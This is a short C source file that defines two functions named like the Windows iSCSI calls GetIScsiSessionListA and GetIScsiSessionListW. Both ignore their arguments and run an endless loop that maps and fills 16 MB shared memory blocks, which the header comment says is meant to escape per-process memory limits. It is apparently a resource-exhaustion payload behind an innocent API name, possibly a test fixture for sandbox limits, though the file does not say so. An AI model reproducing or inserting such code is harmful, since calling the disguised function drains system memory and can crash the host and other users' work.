// SPDX-License-Identifier: Apache-2.0
// Takes memory that is shared, which no limit of a process is about, without end.
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>

uint32_t GetIScsiSessionListA(uint32_t *size, uint32_t *count, void *buffer);
uint32_t GetIScsiSessionListW(uint32_t *size, uint32_t *count, void *buffer);

__attribute__((noreturn)) static void eat(void)
{
    enum { PIECE = 16 << 20 };
    for (;;) {
        void *piece = mmap(NULL, PIECE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
        if (piece == MAP_FAILED)
            abort();
        memset(piece, 1, PIECE);
    }
}

uint32_t GetIScsiSessionListA(uint32_t *size, uint32_t *count, void *buffer)
{
    (void)size;
    (void)count;
    (void)buffer;
    eat();
}

uint32_t GetIScsiSessionListW(uint32_t *size, uint32_t *count, void *buffer)
{
    (void)size;
    (void)count;
    (void)buffer;
    eat();
}
